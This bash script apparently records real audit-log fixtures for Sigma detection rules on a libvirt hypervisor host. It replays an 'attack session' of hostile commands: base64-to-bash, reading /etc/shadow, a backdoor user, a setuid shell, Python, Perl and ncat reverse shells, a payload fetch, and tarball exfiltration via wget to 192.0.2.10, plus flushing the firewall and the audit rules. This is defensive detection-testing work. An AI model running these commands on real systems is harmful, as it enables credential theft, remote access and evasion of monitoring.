#!/usr/bin/env bash
# Records the real audit logs behind hv's own Sigma rules (rules/hv/*.yml) and SigmaHQ's sessions:
#
#   sudo scripts/record-hv-rule-fixtures.sh [--rulesets hv,neo23x0,stig] [--takes a,b,benign] [NAME...]
#
#   test/fixtures/audit/hv/RULESET/TAKE/NAME.log  one technique (or benign family) under one audit ruleset
#   test/fixtures/audit/hv/recordings.tsv         per recording: ruleset, take, name, actor, lines
#   test/fixtures/audit/attack-session.log        SigmaHQ attack steps (name attack-session; ruleset hv only)
#   test/fixtures/audit/benign-session.log        an ordinary admin morning (name benign-session; ruleset hv only)
#
# NAME is a technique or a benign family of scripts/hv-rule-scenarios.sh (which says what each take
# does and as whom); without names, every technique and family is recorded (the two sessions only
# when named). One run re-records everything: about 20 minutes. Hold the host-wide lock:
#
#   flock /tmp/hv-system.lock bash scripts/record-hv-rule-fixtures.sh
#
# The audit rulesets, each loaded alone (auditctl -D first), as a host would have them:
#   hv       rules/audit/hv.rules (with -b 8192 --backlog_wait_time 60000, as it recommends)
#   neo23x0  ../shared/data/audit-rulesets/neo23x0-audit.rules (Florian Roth's best-practice set)
#   stig     Debian's examples 10-base-config.rules + 30-stig.rules (/usr/share/doc/auditd/examples/rules);
#            STIG watches /etc/NetworkManager/, which must exist for the rest of the file to load:
#            it is created for the recording when missing, and removed afterwards.
#
# Needs root, Debian 12, no systemd; the packages .ci/run installs (it says why each). It starts a
# private auditd by hand (`auditd -n -c DIR`: a copy of /etc/audit/auditd.conf with its own log and
# no plugins; pid file /tmp/hv-rule-fixtures-auditd.pid) and uses the running libvirtd
# (qemu:///system), starting libvirtd/virtlogd only if none runs.
#
# What a recording keeps of a noisy host: each scenario runs in a subshell that first writes its
# login uid (/proc/self/loginuid, as pam_loginuid does at login). The kernel gives it a fresh audit
# session id (ses=), inherited by every descendant; the recording keeps the events with a record
# saying ses=N, and from the scenario's time window also what libvirtd did (records of libvirtd's pid
# and its children: VIRT_* records, its iptables runs), what the qemu processes of hvfx-* guests did,
# and the NETFILTER_CFG records the kernel writes without a session. Nothing else.
#
# Everything is REAL: the commands really run and the kernel really audits them. Where the machine
# cannot do the real thing (no KVM, no kernel modules, no guest agent in a guest, no PCI device to
# hand over), the closest real attempt is made; test/fixtures/audit/hv/README.md says which.
#
# State is put back: the audit rules the kernel had before are loaded again (and its backlog
# settings), auditd is stopped, the kernel's enabled flag restored, every file changed is
# restored, the hvfx-* guests, network, pool, secret, users and loop device are removed, and
# libvirtd/virtlogd are stopped if this script started them.

set -euo pipefail
trap 'echo "record-hv-rule-fixtures.sh: line $LINENO failed: $BASH_COMMAND" >&2' ERR
# A plain system PATH: no pyenv/nvm shims (they exec env, readlink, … and fill the fixtures).
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
[[ $(id -u) -eq 0 ]] || { echo "must run as root" >&2; exit 1; }

ROOT=$(realpath "$(dirname "$0")/..")
OUT="$ROOT/test/fixtures/audit/hv"
SESSIONS="$ROOT/test/fixtures/audit"
# Not test/helpers/auditd.ts's pid file: that helper kills the auditd named there, and a test run
# without the lock would end this recording halfway (it happened; it now fails that test instead).
PIDFILE="${TMPDIR:-/tmp}/hv-rule-fixtures-auditd.pid"
SHARED_RULESETS="$ROOT/../shared/data/audit-rulesets"
[[ -d $SHARED_RULESETS ]] || SHARED_RULESETS=/work/shared/data/audit-rulesets
EXAMPLES=/usr/share/doc/auditd/examples/rules
NETNS=hvfx-rec
PCIDEV=0000:00:05.0

RULESETS=(hv neo23x0 stig)
TAKES=(a b benign)
WANT=()
while (($#)); do
  case $1 in
    --rulesets) IFS=, read -r -a RULESETS <<< "$2"; shift 2 ;;
    --takes) IFS=, read -r -a TAKES <<< "$2"; shift 2 ;;
    -h|--help) sed -n '2,45p' "$0"; exit 0 ;;
    *) WANT+=("$1"); shift ;;
  esac
done

# shellcheck source=scripts/hv-rule-scenarios.sh
source "$ROOT/scripts/hv-rule-scenarios.sh"
wanted() { ((${#WANT[@]} == 0)) || [[ " ${WANT[*]} " == *" $1 "* ]]; }

PKGS=(auditd qemu-system-x86 qemu-utils libvirt-daemon-system libvirt-clients dnsmasq-base nftables iptables
  strace gdb kmod iproute2 rsync socat ncat qemu-guest-agent sqlite3 openssh-client curl procps tcpdump util-linux python3 perl
  bind9-dnsutils)
missing=()
for p in "${PKGS[@]}"; do dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'ok installed' || missing+=("$p"); done
if ((${#missing[@]})); then echo "missing Debian packages: ${missing[*]} (bash .ci/run and bash scripts/install-recording-tools.sh install them)" >&2; exit 1; fi
[[ -f $SHARED_RULESETS/neo23x0-audit.rules ]] || { echo "no $SHARED_RULESETS/neo23x0-audit.rules" >&2; exit 1; }

WORK=$(mktemp -d /tmp/hv-rule-fixtures.XXXXXX)
chmod 755 "$WORK"
kernel_field() { auditctl -s | awk -v f="$1" '$1 == f { print $2 }'; }
ENABLED_BEFORE=$(kernel_field enabled)
BACKLOG_BEFORE=$(kernel_field backlog_limit)
BACKLOG_WAIT_BEFORE=$(kernel_field backlog_wait_time)
# The rules the kernel had before: put back at the end, even when the recording fails halfway.
auditctl -l > "$WORK/rules.before"
AUDITD_PID=
STARTED_DAEMONS=()
CREATED=()
LOOPDEV=
CURRENT_RULESET=

cleanup() {
  set +e
  auditctl -D >/dev/null 2>&1
  grep -qx 'No rules' "$WORK/rules.before" || auditctl -R "$WORK/rules.before" >/dev/null
  auditctl -b "$BACKLOG_BEFORE" >/dev/null 2>&1; auditctl --backlog_wait_time "$BACKLOG_WAIT_BEFORE" >/dev/null 2>&1
  if [[ -n $AUDITD_PID ]]; then kill -TERM "$AUDITD_PID" 2>/dev/null; wait "$AUDITD_PID" 2>/dev/null; rm -f "$PIDFILE"; fi
  [[ $ENABLED_BEFORE != 2 && $(kernel_field enabled) != "$ENABLED_BEFORE" ]] && auditctl -e "$ENABLED_BEFORE" >/dev/null
  for f in qemu.conf libvirtd.conf; do [[ -f $WORK/$f.orig ]] && cat "$WORK/$f.orig" > "/etc/libvirt/$f"; done
  [[ -f $WORK/override.orig ]] && cat "$WORK/override.orig" > "/sys/bus/pci/devices/$PCIDEV/driver_override" 2>/dev/null
  for d in hvfx-vm1 hvfx-vm2 hvfx-cmd hvfx-tmp hvfx-pt; do V destroy "$d" >/dev/null 2>&1; V undefine "$d" --snapshots-metadata >/dev/null 2>&1; done
  V net-destroy hvfx-net >/dev/null 2>&1; V net-undefine hvfx-net >/dev/null 2>&1
  V pool-destroy hvfx-pool >/dev/null 2>&1; V pool-undefine hvfx-pool >/dev/null 2>&1
  [[ -s $WORK/secret.uuid ]] && V secret-undefine "$(cat "$WORK/secret.uuid")" >/dev/null 2>&1
  [[ -n $LOOPDEV ]] && losetup -d "$LOOPDEV"
  for pid in "${STARTED_DAEMONS[@]}"; do kill -TERM "$pid" 2>/dev/null; done
  ip netns del "$NETNS" 2>/dev/null
  rm -rf "/etc/netns/$NETNS"
  post_hook_script; post_polkit; post_vm_disk_read
  rm -f "$IMG" "$DATA" /var/lib/libvirt/images/hvfx-* /var/lib/libvirt/qemu/dump/hvfx-* /var/lib/libvirt/qemu/hvfx-* /usr/share/qemu/hvfx-* /usr/share/seabios/hvfx-*
  rm -rf /var/lib/libvirt/hvfx
  for d in "${CREATED[@]}"; do rm -rf "$d"; done
  for u in hvop hvop2 hvadmin hvfxnew; do id "$u" >/dev/null 2>&1 && userdel -r "$u" >/dev/null 2>&1; done
  rm -rf "$WORK"
}
trap cleanup EXIT

# ---------------------------------------------------------------------------------------------
# Setup (before auditd starts: none of this is recorded).

if [[ -s $PIDFILE ]] && [[ $(cat "/proc/$(cat "$PIDFILE")/comm" 2>/dev/null) == auditd ]]; then kill -TERM "$(cat "$PIDFILE")"; sleep 1; fi
other=$(kernel_field pid)
if [[ $other != 0 ]] && kill -0 "$other" 2>/dev/null; then echo "another auditd (pid $other) is running; not touching it" >&2; exit 1; fi

for u in hvop hvop2; do id "$u" >/dev/null 2>&1 || useradd -m -s /bin/bash -G libvirt "$u"; done
id hvadmin >/dev/null 2>&1 || useradd -m -s /bin/bash hvadmin
declare -A LOGIN=([root]=0 [sudo]="$(id -u hvop)" [user]="$(id -u hvop)" [user2]="$(id -u hvop2)" [admin]="$(id -u hvadmin)")
for d in /var/lib/hv /etc/hv /etc/NetworkManager /etc/netns; do [[ -e $d ]] || { mkdir -p "$d"; CREATED+=("$d"); }; done
mkdir -p /var/lib/libvirt/images /var/lib/libvirt/qemu/dump /etc/libvirt/secrets /etc/libvirt/hooks /run/libvirt /var/lib/libvirt/hvfx
chmod 700 /etc/libvirt/secrets
cp /etc/libvirt/qemu.conf "$WORK/qemu.conf.orig"
cp /etc/libvirt/libvirtd.conf "$WORK/libvirtd.conf.orig"
cat "/sys/bus/pci/devices/$PCIDEV/driver_override" > "$WORK/override.orig" 2>/dev/null || true
[[ $(cat "$WORK/override.orig") == "(null)" ]] && echo > "$WORK/override.orig"

# -d daemonizes: the daemon's pid is in its pid file once it is up.
if ! pgrep -x virtlogd >/dev/null; then
  virtlogd -d
  for _ in $(seq 50); do [[ -s /run/virtlogd.pid ]] && break; sleep 0.1; done
  STARTED_DAEMONS+=("$(cat /run/virtlogd.pid)")
fi
# A libvirtd that answers and has its pid file; one another test is just stopping or starting gets
# a few seconds to settle first.
libvirt_up() { virsh -q -c qemu:///system version >/dev/null 2>&1 && [[ -s /run/libvirtd.pid ]] && kill -0 "$(cat /run/libvirtd.pid)" 2>/dev/null; }
for _ in $(seq 50); do libvirt_up && break; sleep 0.2; done
# Starts libvirtd (noted for cleanup) and waits until it answers; the script ends if it does not.
start_libvirtd() {
  rm -f /run/libvirt/libvirt-sock
  libvirtd -d
  for _ in $(seq 100); do libvirt_up && break; sleep 0.1; done
  libvirt_up || { echo "libvirtd did not come up" >&2; exit 1; }
  STARTED_DAEMONS+=("$(cat /run/libvirtd.pid)")
}
if ! libvirt_up; then
  pgrep -x libvirtd >/dev/null && { echo "a libvirtd runs but does not answer on qemu:///system" >&2; exit 1; }
  start_libvirtd
fi
LIBVIRTD_PID=$(cat /run/libvirtd.pid)

# The guests: hvfx-vm1 (started when a scenario needs it), hvfx-vm2 (defined, for edits and
# snapshots), a pool on the image directory, an isolated network, a secret; the kernel and initrd
# of the test guest (scripts/build-test-guest.sh) boot them.
GUEST=${HV_TEST_GUEST_DIR:-/var/cache/hv-test-guest/out}
[[ -f $GUEST/vmlinuz ]] || { echo "no test guest in $GUEST: run scripts/build-test-guest.sh $GUEST" >&2; exit 1; }
cp "$GUEST/vmlinuz" "$GUEST/initrd.img" /var/lib/libvirt/hvfx/
qemu-img create -q -f qcow2 "$IMG" 64M
qemu-img create -q -f qcow2 "$DATA" 64M
# Each definition has a fixed uuid: defining the same file again then updates the domain (without
# one, libvirt makes up a new uuid and refuses: "already exists with uuid …").
domain_xml() { # NAME DISK [EXTRA-XML]
  cat <<EOF
<domain type='qemu' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
  <name>$1</name>
  <uuid>$(cat /proc/sys/kernel/random/uuid)</uuid>
  <memory unit='KiB'>131072</memory>
  <vcpu placement='static'>1</vcpu>
  <os><type arch='x86_64' machine='pc'>hvm</type><kernel>/var/lib/libvirt/hvfx/vmlinuz</kernel><initrd>/var/lib/libvirt/hvfx/initrd.img</initrd><cmdline>console=ttyS0 panic=-1</cmdline></os>
  <devices>
    <emulator>/usr/bin/qemu-system-x86_64</emulator>
    <disk type='file' device='disk'><driver name='qemu' type='qcow2'/><source file='$2'/><target dev='vda' bus='virtio'/></disk>
    <serial type='pty'/>
    <graphics type='vnc' port='-1' listen='127.0.0.1'/>
  </devices>
${3:-}
</domain>
EOF
}
qemu-img create -q -f qcow2 /var/lib/libvirt/images/hvfx-vm2.qcow2 64M
domain_xml hvfx-vm1 "$IMG" > "$WORK/vm1.xml"
domain_xml hvfx-vm2 /var/lib/libvirt/images/hvfx-vm2.qcow2 > "$WORK/vm2.xml"
domain_xml hvfx-tmp /var/lib/libvirt/images/hvfx-vm2.qcow2 > "$WORK/tmp.xml"
domain_xml hvfx-pt /var/lib/libvirt/images/hvfx-vm2.qcow2 > "$WORK/pt.xml"
domain_xml hvfx-cmd /var/lib/libvirt/images/hvfx-vm2.qcow2 "<qemu:commandline><qemu:arg value='-chardev'/><qemu:arg value='file,id=hvfxleak,path=/tmp/hvfx-leak.txt'/></qemu:commandline>" > "$WORK/cmdline-a.xml"
domain_xml hvfx-cmd /var/lib/libvirt/images/hvfx-vm2.qcow2 "<qemu:commandline><qemu:arg value='-fw_cfg'/><qemu:arg value='name=opt/hvfx,file=/etc/hostname'/></qemu:commandline>" > "$WORK/cmdline-b.xml"
for d in hvfx-vm1 hvfx-vm2 hvfx-cmd hvfx-tmp hvfx-pt; do V destroy "$d" >/dev/null 2>&1 || true; V undefine "$d" --snapshots-metadata >/dev/null 2>&1 || true; done
V define "$WORK/vm1.xml" >/dev/null
V define "$WORK/vm2.xml" >/dev/null
printf "<filesystem type='mount' accessmode='passthrough'><source dir='/srv/hvfx-share'/><target dir='hostshare'/></filesystem>\n" > "$WORK/fs.xml"
[[ -e /srv/hvfx-share ]] || { mkdir -p /srv/hvfx-share; CREATED+=(/srv/hvfx-share); }
printf "<network><name>hvfx-net</name><uuid>%s</uuid><bridge name='hvfxbr0'/><ip address='10.77.0.1' netmask='255.255.255.0'/></network>\n" "$(cat /proc/sys/kernel/random/uuid)" > "$WORK/net.xml"
sed 's|</network>|<domain name="hvfx.example"/></network>|' "$WORK/net.xml" > "$WORK/net-edited.xml"
V net-destroy hvfx-net >/dev/null 2>&1 || true; V net-undefine hvfx-net >/dev/null 2>&1 || true
V net-define "$WORK/net.xml" >/dev/null
V pool-destroy hvfx-pool >/dev/null 2>&1 || true; V pool-undefine hvfx-pool >/dev/null 2>&1 || true
# Persistent and autostarted: a libvirtd restarted halfway (see daemons_up) still has it.
V pool-define-as hvfx-pool dir --target /var/lib/libvirt/images >/dev/null
V pool-autostart hvfx-pool >/dev/null
V pool-start hvfx-pool >/dev/null
cat > "$WORK/secret.xml" <<EOF
<secret ephemeral='no' private='no'><description>hv fixture: LUKS passphrase of hvfx-vm1</description><usage type='volume'><volume>$IMG</volume></usage></secret>
EOF
for u in $(V secret-list | awk -v img="$IMG" '$0 ~ img { print $1 }'); do V secret-undefine "$u" >/dev/null; done
virsh -c qemu:///system secret-define "$WORK/secret.xml" | grep -Eo '[0-9a-f-]{36}' > "$WORK/secret.uuid"
V secret-set-value "$(cat "$WORK/secret.uuid")" --base64 "$(printf 'correct horse battery' | base64)" >/dev/null 2>&1 || true
qemu-img create -q -f raw "$WORK/loop.img" 8M
LOOPDEV=$(losetup -f --show "$WORK/loop.img")

ip netns del "$NETNS" 2>/dev/null || true
ip netns add "$NETNS"
# DNS out of the namespace: a veth pair inside it (no dummy driver in every kernel) with a default
# route (queries leave and are lost), and the namespace's own resolv.conf (ip netns exec mounts it
# over /etc/resolv.conf).
ip -n "$NETNS" link set lo up
ip -n "$NETNS" link add hvfxdns0 type veth peer name hvfxdns1
ip -n "$NETNS" addr add 10.78.0.2/24 dev hvfxdns0
ip -n "$NETNS" link set hvfxdns1 up
ip -n "$NETNS" link set hvfxdns0 up
ip -n "$NETNS" route add default dev hvfxdns0
mkdir -p "/etc/netns/$NETNS"
printf 'nameserver %s\noptions timeout:1 attempts:1\n' "$DNS_RESOLVER" > "/etc/netns/$NETNS/resolv.conf"
printf '#!/bin/sh\n# a tap "ifup" script, as qemu -netdev tap,script= runs it\nid >/dev/null\nexit 0\n' > "$WORK/ifup.sh"
printf '#!/bin/bash\n# the same in bash\nid >/dev/null\n' > "$WORK/ifup.bash"
printf '#!/bin/sh\n# a libvirt hook\nexit 0\n' > "$WORK/hook.sh"
chmod 755 "$WORK/ifup.sh" "$WORK/ifup.bash" "$WORK/hook.sh"
printf 'not an ELF module\n' > "$WORK/hv_fixture.ko"
head -c 4096 /dev/zero > "$WORK/fake-OVMF_VARS.fd"
printf 'rules: []\nenabled: true\n' > "$WORK/hv.yaml"
printf 'table ip libvirt_network {\n  chain guest_output { type filter hook forward priority 0; policy accept; }\n}\n' > "$WORK/libvirt.nft"
printf 'polkit.addRule(function(action, subject) {\n  if (action.id == "org.libvirt.unix.manage" && subject.user == "hvop") return polkit.Result.YES;\n});\n' > "$WORK/polkit.rules"
printf '[hvfx]\nIdentity=unix-user:hvop\nAction=org.libvirt.unix.manage\nResultAny=yes\n' > "$WORK/hvfx.pkla"
cat > "$WORK/vmread.py" <<'EOF'
# process_vm_readv(2) on another process: 64 bytes at the start of its first readable mapping;
# with "write-back", process_vm_writev(2) puts the same bytes back (nothing changes).
import ctypes, sys
pid = int(sys.argv[1])
start = next(int(l.split("-")[0], 16) for l in open(f"/proc/{pid}/maps") if l.split()[1].startswith("rw"))
class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buf = ctypes.create_string_buffer(64)
local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(start, 64)
libc = ctypes.CDLL(None, use_errno=True)
n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print("read", n, ctypes.get_errno())
if len(sys.argv) > 2 and n == 64:
    print("wrote", libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0), ctypes.get_errno())
EOF
cat > "$WORK/finit.py" <<'EOF'
# finit_module(2) on a file, as insmod does (x86_64 syscall 313).
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(sys.argv[1], os.O_RDONLY)
print(libc.syscall(313, fd, b"", 0), ctypes.get_errno())
EOF

# ---------------------------------------------------------------------------------------------
# auditd and the rulesets

DIR="$WORK/auditd"
mkdir -p "$DIR/plugins.d"
chmod 700 "$DIR"
LOG="$DIR/audit.log"
sed -E -e '/^\s*(log_file|plugin_dir|space_left_action|admin_space_left_action|disk_full_action|disk_error_action|max_log_file_action|max_log_file)\s*=/d' /etc/audit/auditd.conf > "$DIR/auditd.conf"
cat >> "$DIR/auditd.conf" <<EOF
log_file = $LOG
plugin_dir = $DIR/plugins.d
space_left_action = SYSLOG
admin_space_left_action = SYSLOG
disk_full_action = SYSLOG
disk_error_action = SYSLOG
max_log_file = 1024
max_log_file_action = IGNORE
EOF
chmod 640 "$DIR/auditd.conf"
auditd -n -c "$DIR" </dev/null >/dev/null 2>&1 &
AUDITD_PID=$!
echo "$AUDITD_PID" > "$PIDFILE"
for _ in $(seq 100); do [[ $(kernel_field pid) == "$AUDITD_PID" && -s $LOG ]] && break; sleep 0.1; done
[[ $(kernel_field pid) == "$AUDITD_PID" ]] || { echo "auditd did not come up" >&2; exit 1; }

load_ruleset() {
  CURRENT_RULESET=$1
  auditctl -D >/dev/null
  case $1 in
    # -i (a line of its own): a line the kernel refuses is reported and the rest still loads
    hv) auditctl -b 8192 >/dev/null; auditctl --backlog_wait_time 60000 >/dev/null
        { echo -i; cat "$ROOT/rules/audit/hv.rules"; } > "$WORK/hv.rules"
        auditctl -R "$WORK/hv.rules" 2>&1 >/dev/null | sed 's/^/  auditctl: /' >&2 || true ;;
    neo23x0) auditctl -R "$SHARED_RULESETS/neo23x0-audit.rules" >/dev/null 2>&1 || true ;;   # it has -i: lines for absent paths are skipped
    stig) auditctl -R "$EXAMPLES/10-base-config.rules" >/dev/null; auditctl -R "$EXAMPLES/30-stig.rules" >/dev/null ;;
    *) echo "unknown ruleset $1" >&2; exit 1 ;;
  esac
  [[ $(kernel_field enabled) == 1 ]] || auditctl -e 1 >/dev/null
  printf '%s: %d rules loaded\n' "$1" "$(auditctl -l | grep -c .)"
}

# keep LOG OFFSET SES T0 T1 PIDS: from byte OFFSET of the log on, the events of session SES, and in
# [T0, T1] those of the given pids (libvirtd, the hvfx guests' qemu) and their children, and the
# NETFILTER_CFG records the kernel writes without a session.
keep() {
  python3 - "$@" <<'EOF'
import re, sys
log, offset, ses, t0, t1, pids = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), float(sys.argv[5]), set(sys.argv[6].split())
stamp = re.compile(r"msg=audit\((\d+\.\d+):(\d+)\)")
field = lambda name, line: (re.search(r"(?:^|[ '])" + name + r"=(\S+)", line) or [None, None])[1]
with open(log, "rb") as f:
    f.seek(offset)
    lines = f.read().decode("utf-8", errors="surrogateescape").split("\n")
keep = set()
for line in lines:
    m = stamp.search(line)
    if not m: continue
    if field("ses", line) == ses: keep.add(m.group(0)); continue
    t = float(m.group(1))
    if not (t0 <= t <= t1): continue
    if field("pid", line) in pids or field("ppid", line) in pids: keep.add(m.group(0))
    elif line.startswith("type=NETFILTER_CFG") and field("ses", line) is None: keep.add(m.group(0))
out = [l for l in lines if (m := stamp.search(l)) and m.group(0) in keep]
sys.stdout.write("".join(l + "\n" for l in out))
EOF
}

# run NAME ACTOR FUNC OUTFILE: FUNC in a subshell logged in as ACTOR (a fresh audit session).
# Something else on the host stopping auditd or libvirtd (a test run without the lock) must not
# leave recordings silently empty: auditd gone ends the run; libvirtd gone is started again (its
# guests, network, pool and secret are persistent) and the scenario it spoiled is recorded again.
daemons_up() {
  [[ $(kernel_field pid) == "$AUDITD_PID" ]] || { echo "auditd ($AUDITD_PID) is no longer the kernel's audit daemon $1: recordings from here on would be empty" >&2; exit 1; }
  kill -0 "$LIBVIRTD_PID" 2>/dev/null && return 0
  echo "libvirtd ($LIBVIRTD_PID) was stopped by something else $1: starting it again" >&2
  for _ in $(seq 50); do libvirt_up && break; sleep 0.2; done
  libvirt_up || start_libvirtd
  LIBVIRTD_PID=$(cat /run/libvirtd.pid)
  return 1
}

run() {
  local name=$1 actor=$2 fn=$3 out=$4 ses t0 t1 pids offset
  daemons_up "before $name" || true
  offset=$(stat -c %s "$LOG")
  t0=$(date +%s.%N)
  (
    echo "${LOGIN[$actor]}" > /proc/self/loginuid
    read -r s < "/proc/$BASHPID/sessionid" || true
    echo "$s" > "$WORK/ses.$name"
    cd "$WORK"
    "$fn" || true
    true
  ) </dev/null >"$WORK/$name.out" 2>&1 &
  wait $! || true
  sleep 0.7
  t1=$(date +%s.%N)
  [[ -s $WORK/ses.$name ]] || { echo "$name: the scenario did not start:" >&2; cat "$WORK/$name.out" >&2; return 1; }
  ses=$(cat "$WORK/ses.$name")
  daemons_up "during $name" || return 2
  pids="$LIBVIRTD_PID $(sort -u "$WORK/qemu.pids" 2>/dev/null | tr '\n' ' ')"
  mkdir -p "$(dirname "$out")"
  keep "$LOG" "$offset" "$ses" "$t0" "$t1" "$pids" > "$out"
  printf '  %-22s %-6s ses=%-5s %6d lines\n' "$name" "$actor" "$ses" "$(wc -l < "$out")"
}

# The qemu pids of the hvfx guests, noted while they run (a guest stopped in the scenario is gone by
# the time the recording is cut).
# (Builtins only: under hv's rules every program start of this loop would be recorded.)
note_qemu_pids() {
  local f p tick
  mkfifo "$WORK/tick"
  exec {tick}<>"$WORK/tick"   # a fifo nobody writes to: read -t on it is a sleep without a program
  while :; do
    # (libvirt writes the pid without a newline: read would say "end of file")
    for f in /run/libvirt/qemu/hvfx-*.pid; do if [[ -f $f ]] && p=$(<"$f") && [[ -n $p ]]; then echo "$p"; fi; done >> "$WORK/qemu.pids"
    read -rt 0.2 -u "$tick" || true
  done
}
note_qemu_pids & NOTER=$!
trap 'kill $NOTER 2>/dev/null; cleanup' EXIT

TSV="$OUT/recordings.tsv"
touch "$TSV"
note_recording() { # RULESET TAKE NAME ACTOR FILE
  grep -v -P "^$1\t$2\t$3\t" "$TSV" > "$TSV.new" || true
  printf '%s\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" "$(wc -l < "$5")" >> "$TSV.new"
  { head -1 "$TSV.new" | grep -P '^ruleset\t' || printf 'ruleset\ttake\tname\tactor\tlines\n'; grep -v -P '^ruleset\t' "$TSV.new" | sort; } > "$TSV"
  rm -f "$TSV.new"
}
call_if() { declare -F "$1" >/dev/null && "$1" >/dev/null 2>&1 || true; }

record_take() { # RULESET TAKE
  local rs=$1 take=$2 name actor fn
  if [[ $take == benign ]]; then
    for name in "${BENIGN[@]}"; do
      wanted "$name" || continue
      run "$name" admin "n_$name" "$OUT/$rs/benign/$name.log" || run "$name" admin "n_$name" "$OUT/$rs/benign/$name.log"
      call_if "post_n_$name"
      note_recording "$rs" benign "$name" sudo "$OUT/$rs/benign/$name.log"
    done
    return
  fi
  for name in "${TECHNIQUES[@]}"; do
    wanted "$name" || continue
    if [[ $take == a ]]; then actor=${ACTOR_A[$name]:-root}; else actor=${ACTOR_B[$name]:-sudo}; fi
    if declare -F "prep_${take}_$name" >/dev/null; then "prep_${take}_$name" >/dev/null 2>&1 || true; else call_if "prep_$name"; fi
    if ! run "$name" "$actor" "${take}_$name" "$OUT/$rs/$take/$name.log"; then
      call_if "post_$name"
      if declare -F "prep_${take}_$name" >/dev/null; then "prep_${take}_$name" >/dev/null 2>&1 || true; else call_if "prep_$name"; fi
      run "$name" "$actor" "${take}_$name" "$OUT/$rs/$take/$name.log"
    fi
    call_if "post_$name"
    # the recorded actor class: user2 is a second unprivileged user
    note_recording "$rs" "$take" "$name" "${actor/user2/user}" "$OUT/$rs/$take/$name.log"
    # Rules removed or auditing switched off by the scenario: the ruleset comes back whole.
    case $name in audit_rules_removed | audit_disable) load_ruleset "$rs" >/dev/null ;; esac
  done
}

for rs in "${RULESETS[@]}"; do
  load_ruleset "$rs"
  for take in "${TAKES[@]}"; do
    echo "$rs / take $take"
    record_take "$rs" "$take"
  done
done

# ---------------------------------------------------------------------------------------------
# Sessions for SigmaHQ's rules.

ATTACK_STEPS=()
step() { ATTACK_STEPS+=("$1"); }
scn_attack_session() {
  local n=0 cmd
  for cmd in "${ATTACK_STEPS[@]}"; do
    n=$((n + 1))
    /bin/true "hv-step-$n"
    bash -c "$cmd" </dev/null >/dev/null 2>&1 || true
  done
  /bin/true hv-step-end
}
# The steps (also written to attack-session.expected.json by the test author; keep in step).
step 'echo "aWQgLWEK" | base64 -d | bash'
step 'bash -c "echo aWQK | base64 -d | sh"'
step 'cat /etc/shadow'
step 'cp /etc/shadow /tmp/hvfx-shadow && rm -f /tmp/hvfx-shadow'
step 'useradd -M -s /bin/bash hvfxbackdoor'
step 'echo "* * * * * /tmp/hvfx.sh" > /tmp/hvfx-cron && crontab /tmp/hvfx-cron && crontab -l && crontab -r'
step 'touch /root/.bash_history.hvfx && rm -f /root/.bash_history.hvfx_history; rm /tmp/hvfx-zsh_history 2>/dev/null; : > /tmp/hvfx.bash_history; rm /tmp/hvfx.bash_history'
step 'cp /bin/sh /tmp/hvfx-sh && chown root /tmp/hvfx-sh && chmod u+s /tmp/hvfx-sh && rm -f /tmp/hvfx-sh'
step 'wget -q -T 2 -O /tmp/hvfx-payload http://192.0.2.10/p.sh; chmod +x /tmp/hvfx-payload; rm -f /tmp/hvfx-payload'
step 'python3 -c "import socket,subprocess,os,pty;s=socket.socket();s.settimeout(1);s.connect((\"127.0.0.1\",9));pty.spawn(\"/bin/sh\")"'
step 'perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(9,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"'
step 'timeout 1 ncat -e /bin/sh 127.0.0.1 9'
step 'uname -a; id; hostname; cat /etc/os-release; cat /etc/issue'
step 'iptables -F; nft flush ruleset'
step 'chattr -i /tmp/hvfx-immutable 2>/dev/null; touch /tmp/hvfx-immutable; chattr +i /tmp/hvfx-immutable; chattr -i /tmp/hvfx-immutable; rm -f /tmp/hvfx-immutable'
step 'mkfifo /tmp/hvfx-fifo; rm -f /tmp/hvfx-fifo'
step 'cat /etc/sudoers; cat /etc/group; cat ~/.bash_history'
step 'cp /usr/bin/sleep /tmp/hvfx-crond && /tmp/hvfx-crond 0; rm -f /tmp/hvfx-crond'
step 'echo "# hvfx" >> /etc/audit/auditd.conf && sed -i "/# hvfx/d" /etc/audit/auditd.conf'
step 'python3 -c "import pty; pty.spawn(\"/bin/true\")"'
step 'tar -czf /tmp/hvfx-etc.tgz /etc/libvirt && wget --post-file=/tmp/hvfx-etc.tgz -q -T 2 http://192.0.2.10/; rm -f /tmp/hvfx-etc.tgz'
# Last: after it the kernel has no rules left, so nothing later would be recorded.
step 'auditctl -D'

scn_benign_session() {
  # One shell reading the commands one by one, as an admin's login shell would run them (each
  # command a child of that bash; no `bash -c` wrapper per command).
  HOME=/home/hvadmin bash -s < "$WORK/benign.cmds" >/dev/null 2>&1 || true
}
cat > "$WORK/benign.cmds" <<'EOF'
# A morning on a hypervisor host: look around, check VMs, disks, network, logs; small config change.
ls -la /root
ls -l /var/lib/libvirt/images
df -h
df -i /var/lib/libvirt
free -m
uptime
ps aux --sort=-%cpu
ps -eo pid,ppid,comm,etime
top -b -n1 | head -20
who
w
last -n 5
date -u
cat /proc/loadavg
cat /proc/meminfo
cat /proc/cpuinfo | grep -c processor
lscpu
ls /var/log
tail -n 50 /var/log/dpkg.log
grep -i error /var/log/dpkg.log | tail -5
zcat -f /var/log/apt/history.log | tail -20
less -F /etc/hostname
head -n 20 /etc/libvirt/qemu.conf
grep -v '^#' /etc/libvirt/libvirtd.conf | grep -v '^$'
cp /etc/libvirt/libvirtd.conf /root/libvirtd.conf.bak
sed -i 's/^#log_level = 3/log_level = 3/' /root/libvirtd.conf.bak
diff /etc/libvirt/libvirtd.conf /root/libvirtd.conf.bak
rm /root/libvirtd.conf.bak
apt-cache policy qemu-system-x86
apt-cache policy libvirt-daemon-system
apt-cache show nftables | head -5
dpkg -l | grep -c qemu
dpkg -L qemu-utils | head
ip a
ip -br link
